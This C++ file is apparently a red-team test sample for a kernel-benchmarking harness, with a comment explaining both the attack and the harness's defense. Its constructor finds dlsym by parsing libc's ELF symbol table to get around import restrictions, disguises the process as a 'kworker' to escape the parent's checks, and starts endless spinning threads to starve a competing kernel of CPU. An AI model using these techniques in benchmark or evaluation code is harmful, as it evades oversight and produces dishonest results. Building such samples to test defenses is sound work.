/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: sabotages the baseline it is raced against. The math is honest; a constructor
// (it runs while the worker loads the library) hides the process (its command line
// overwritten in memory, its name changed) so a parent that looks for its worker by
// command line finds none and skips the checks that need it, and starts two threads
// that spin for as long as the process lives: on a 2-core machine they would take both
// CPUs from the other kernel's timed runs. Nothing forbidden is imported: `dlsym` is
// found in the C library's dynamic symbol table from the address of memcpy, and
// pthread_create, prctl and the rest through it.
// Defense: the parent identifies the worker from the process tree it started, before the
// kernel is loaded, and stops it between its commands (SIGSTOP stops every thread; the
// seccomp guard refuses new processes, so every thread the kernel starts is one of
// them): only one worker of a duel runs at any moment, and the spinners run only inside
// this kernel's own windows. The verdict is the honest one.
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
typedef int (*Spawn)(unsigned long*, const void*, void* (*)(void*), void*);
typedef int (*Prctl)(int, unsigned long, unsigned long, unsigned long, unsigned long);

static volatile unsigned long spins[2];

static void* burn(void* slot) {
    volatile unsigned long* s = static_cast<volatile unsigned long*>(slot);
    for (;;) *s = *s + 1;
    return nullptr;
}

__attribute__((constructor)) static void sabotage() {
    char** argv0 = reinterpret_cast<char**>(kc_find("program_invocation_name"));
    char*** env = reinterpret_cast<char***>(kc_find("environ"));
    if (argv0 && *argv0 && env && *env && **env && **env > *argv0) {
        char* p = *argv0;
        static const char fake[] = "[kworker/u4:2]";
        memset(p, 0, **env - p);
        memcpy(p, fake, sizeof fake < (size_t)(**env - p) ? sizeof fake : (size_t)(**env - p));
    }
    Prctl kc_prctl = reinterpret_cast<Prctl>(kc_find("prctl"));
    if (kc_prctl) kc_prctl(15 /* PR_SET_NAME */, reinterpret_cast<unsigned long>("kworker"), 0, 0, 0);
    Spawn kc_spawn = reinterpret_cast<Spawn>(kc_find("pthread_create"));
    unsigned long id;
    for (int t = 0; kc_spawn && t < 2; ++t)
        kc_spawn(&id, nullptr, burn, const_cast<unsigned long*>(&spins[t]));
}

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    for (int64_t i = 0; i < rows; ++i) {
        float acc = 0.0f;
        for (int64_t j = 0; j < cols; ++j) acc += a * x[i * cols + j] + b;
        out[i] = acc;
    }
}
